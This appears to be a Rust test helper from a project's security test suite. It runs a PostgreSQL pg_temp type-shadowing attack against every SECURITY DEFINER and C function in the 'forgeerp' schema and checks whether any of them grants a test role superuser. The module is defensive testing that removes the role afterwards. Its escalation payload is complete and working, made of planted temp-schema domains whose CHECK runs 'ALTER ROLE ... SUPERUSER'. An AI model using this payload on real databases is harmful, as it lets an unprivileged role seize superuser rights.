//! The pg_temp type-shadowing attack on functions that run with their owner's
//! rights, run for real by an application role.
//!
//! Any role that can connect may create objects in its temporary schema, and
//! PostgreSQL searches that schema *first* for relations and types unless a
//! search_path names `pg_temp` explicitly (last). So the attacker creates
//! `pg_temp.<type>` domains over every type a function takes, returns or
//! names, each with a CHECK that calls the attacker's own function; if a
//! SECURITY DEFINER function resolves one of those names, the attacker's
//! function runs as the owner, records who it ran as, and makes the attacker
//! a superuser.

use crate::{admin_base, id};
use postgres::{Client, NoTls};
use std::sync::{Arc, Mutex};

/// Types the store's SQL and the append path name, beyond those of each
/// function's signature.
const NAMED_TYPES: [&str; 11] = [
    "text",
    "uuid",
    "jsonb",
    "timestamptz",
    "int8",
    "int4",
    "bool",
    "name",
    "xid8",
    "pg_snapshot",
    "regclass",
];

/// An application role made by `forgeerp.grant_usage`, dropped again when
/// this goes out of scope (superuser or not).
pub struct Attacker {
    /// The role's name.
    pub role: String,
    database: String,
}

impl Attacker {
    /// A new LOGIN role in `database`, given usage with `forgeerp.grant_usage`.
    pub fn new(database: &str) -> Attacker {
        let role = format!("forgeerp_test_role_attacker_{}", id().simple());
        let mut db = admin(database);
        db.batch_execute(&format!(
            "CREATE ROLE {role} LOGIN; SELECT forgeerp.grant_usage('{role}')"
        ))
        .unwrap();
        Attacker {
            role,
            database: database.to_string(),
        }
    }

    /// Whether the role is a superuser now.
    pub fn is_superuser(&self) -> bool {
        admin(&self.database)
            .query_one(
                "SELECT rolsuper FROM pg_roles WHERE rolname = $1",
                &[&self.role],
            )
            .unwrap()
            .get(0)
    }

    /// Takes superuser away again (after an attack that worked).
    pub fn demote(&self) {
        admin(&self.database)
            .batch_execute(&format!("ALTER ROLE {} NOSUPERUSER", self.role))
            .unwrap();
    }

    /// Runs the attack against every SECURITY DEFINER function of schema
    /// `forgeerp` and every C function (which may switch identity itself),
    /// each called unbound and bound to a tenant, in a fresh
    /// session. Returns the roles other than the attacker that the planted
    /// function ran as (empty: the attack failed) and the functions called.
    pub fn shadow_types_and_call_every_definer(&self) -> AttackOutcome {
        // The planted function reports each run as a notice: a notice reaches
        // the client even when the call then fails and its transaction rolls
        // back, so no run goes unseen.
        let hits = Arc::new(Mutex::new(Vec::<String>::new()));
        let seen = hits.clone();
        let mut session = format!(
            "{} dbname={} user={}",
            admin_base(),
            self.database,
            self.role
        )
        .parse::<postgres::Config>()
        .unwrap()
        .notice_callback(move |notice| {
            if let Some(hit) = notice.message().strip_prefix("forgeerp attack ran as ") {
                seen.lock().unwrap().push(hit.to_string());
            }
        })
        .connect(NoTls)
        .expect("connect as the attacker");
        let functions = definer_functions(&mut admin(&self.database));
        let mut types: Vec<String> = NAMED_TYPES.iter().map(|t| t.to_string()).collect();
        for f in &functions {
            types.extend(f.named_types.iter().cloned());
        }
        types.sort();
        types.dedup();

        let mut plant = format!(
            "CREATE FUNCTION pg_temp.escalate(v anyelement) RETURNS pg_catalog.bool
             LANGUAGE plpgsql SET search_path = pg_catalog, pg_temp AS $f$
             BEGIN
                 IF CURRENT_USER OPERATOR(pg_catalog.<>) '{role}'::pg_catalog.name THEN
                     RAISE NOTICE 'forgeerp attack ran as % via %', CURRENT_USER, pg_catalog.pg_typeof(v);
                     EXECUTE 'ALTER ROLE {role} SUPERUSER';
                 END IF;
                 RETURN true;
             END $f$;",
            role = self.role
        );
        for t in &types {
            plant.push_str(&format!(
                "CREATE DOMAIN pg_temp.{t} AS pg_catalog.{t} CHECK (pg_temp.escalate(VALUE));"
            ));
        }
        session.batch_execute(&plant).expect("plant the domains");

        let tenant = id();
        let mut called = Vec::new();
        for f in &functions {
            let call = f.call(&self.role, tenant);
            for bound in [false, true] {
                // Errors (a missing privilege, a bad argument) are fine: only
                // whether the planted function ran as someone else counts.
                let mut script = String::from("BEGIN;");
                if bound {
                    script.push_str(&format!(
                        "SELECT forgeerp.bind_tenant('{tenant}'::pg_catalog.uuid);"
                    ));
                }
                script.push_str(&call);
                // COMMIT: what the planted function did as the owner stays.
                script.push_str("COMMIT;");
                if session.batch_execute(&script).is_err() {
                    let _ = session.batch_execute("ROLLBACK");
                }
            }
            called.push(f.signature.clone());
        }
        let mut hits = hits.lock().unwrap().clone();
        hits.sort();
        hits.dedup();
        AttackOutcome { hits, called }
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        let mut db = admin(&self.database);
        let _ = db.batch_execute(&format!(
            "ALTER ROLE {role} NOSUPERUSER; DROP OWNED BY {role}; DROP ROLE {role}",
            role = self.role
        ));
    }
}

/// What the attack achieved.
#[derive(Debug)]
pub struct AttackOutcome {
    /// "role via type" for every run of the planted function as another role.
    pub hits: Vec<String>,
    /// The SECURITY DEFINER functions called.
    pub called: Vec<String>,
}

/// A function of the schema that may run with its owner's rights, with what
/// calling it needs.
struct DefinerFunction {
    signature: String,
    name: String,
    arg_types: Vec<String>,
    named_types: Vec<String>,
}

impl DefinerFunction {
    /// A call with a plausible value of each argument's type.
    fn call(&self, role: &str, tenant: uuid::Uuid) -> String {
        let args: Vec<String> = self
            .arg_types
            .iter()
            .map(|t| {
                let value = match t.as_str() {
                    "uuid" => tenant.to_string(),
                    "int8" | "int4" | "int2" => "0".into(),
                    "jsonb" => r#"[{"event_type": "Tick", "payload": {"n": 1}}]"#.into(),
                    // A text argument may be the caller (the *_as functions):
                    // the attacker's own name gets past the claim check.
                    "name" | "text" => role.to_string(),
                    _ => "x".into(),
                };
                format!("'{value}'::pg_catalog.{t}")
            })
            .collect();
        format!("SELECT * FROM forgeerp.{}({});", self.name, args.join(", "))
    }
}

fn definer_functions(db: &mut Client) -> Vec<DefinerFunction> {
    db.query(
        "SELECT p.oid::regprocedure::text, p.proname::text,
                ARRAY(SELECT t.typname::text FROM unnest(p.proargtypes::oid[]) WITH ORDINALITY a(oid, n)
                        JOIN pg_type t ON t.oid = a.oid ORDER BY a.n),
                ARRAY(SELECT DISTINCT t.typname::text
                        FROM unnest(coalesce(p.proallargtypes, p.proargtypes::oid[]) || p.prorettype) a(oid)
                        JOIN pg_type t ON t.oid = a.oid WHERE t.typtype = 'b' AND t.typcategory <> 'A'
                      UNION
                      SELECT DISTINCT t.typname::text
                        FROM pg_type r JOIN pg_attribute c ON c.attrelid = r.typrelid AND c.attnum > 0
                        JOIN pg_type t ON t.oid = c.atttypid
                       WHERE r.oid = p.prorettype AND t.typtype = 'b')
           FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace
          JOIN pg_language l ON l.oid = p.prolang
          -- C functions may switch identity themselves (append does).
          WHERE n.nspname = 'forgeerp' AND (p.prosecdef OR l.lanname = 'c')
          ORDER BY 1",
        &[],
    )
    .unwrap()
    .iter()
    .map(|r| DefinerFunction {
        signature: r.get(0),
        name: r.get(1),
        arg_types: r.get(2),
        named_types: r.get(3),
    })
    .collect()
}

fn admin(database: &str) -> Client {
    Client::connect(&format!("{} dbname={database}", admin_base()), NoTls)
        .expect("connect as the superuser")
}
